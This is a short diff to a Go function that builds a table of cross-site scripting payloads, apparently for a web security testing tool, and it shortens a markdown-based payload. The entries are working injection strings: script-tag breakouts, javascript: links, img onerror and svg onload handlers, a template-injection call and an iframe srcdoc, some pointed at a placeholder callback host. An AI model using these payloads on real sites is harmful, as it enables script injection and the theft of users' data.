@@ -54,7 +54,7 @@ func payloads(spy string) []payload {
 		{"string", `";JS;//`, `<script>var x="%s";</script>`},
 		{"literal", "${JS}", "<script>var x=`%s`;</script>"},
 		{"link", `javascript:JS`, onClick + `<a href="%s">x</a>`},
-		{"markdown", "[x](javascript:JS) ![x](SPY/markdown) <SPY/markdown> [<img src=x onerror='JS'>](SPY/markdown)\n\n```\n<script>JS</script>\n```\n> <svg onload='JS'>\n\n|a|\n|-|\n|<img src=x onerror='JS'>|", ``}, // read by a program of the page
+		{"markdown", "[x](javascript:JS) ![x](SPY/markdown) <SPY/markdown> [<img src=x onerror='JS'>](SPY/markdown) SPY/markdown", ``}, // read by a program of the page
 		{"lines", "\u2028JS\u2029", `<script>// %s` + "\n</script>"},
 		{"template", `{{constructor.constructor('JS')()}}`, ``}, // a framework's, and there is none
 		{"frame", `<iframe srcdoc="<script>parent.JS</script>"></iframe>`, `%s`},
